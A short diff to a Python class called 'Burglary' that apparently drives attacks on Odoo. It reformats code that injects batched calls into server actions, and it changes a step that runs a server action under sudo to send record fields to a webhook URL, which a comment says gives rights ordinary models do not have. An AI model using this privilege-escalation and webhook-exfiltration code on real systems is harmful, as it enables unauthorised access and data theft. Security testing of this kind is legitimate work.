@@ -103,7 +103,9 @@ class Burglary:
         :param calls: lines of code, one a call
         """
         for number in range(0, len(calls), 40):
-            lines = "\n".join(f"call(lambda: {line})" for line in calls[number : number + 40])
+            lines = "\n".join(
+                f"call(lambda: {line})" for line in calls[number : number + 40]
+            )
             code = thieves.UNDERSCORE.replace("{calls}", "{lines}")
             surface = "server action: every _method"
             self.run("every _method", code, surface, lines=lines)
@@ -246,10 +248,10 @@ class Burglary:
             webhook_url=url,
             webhook_field_ids=[(6, 0, wanted)],
         )
-        where = {"active_model": model, "active_id": record, "active_ids": [record]}
+        where = f"active_model='{model}', active_id={record}, active_ids=[{record}]"
         # by a server action, which has the rights that a model of ours gives nobody
         code = f"env['ir.actions.server'].browse({action}).sudo().with_context({where})"
-        code += f"._run_action_webhook({{{{'record': env['{model}'].browse({record})}}}})"
+        code += "._run_action_webhook()"
         runner = self.action("webhook", self.code(code, self.loot("webhook")))
         self.admin.call("ir.actions.server", "run", [[runner]])
 
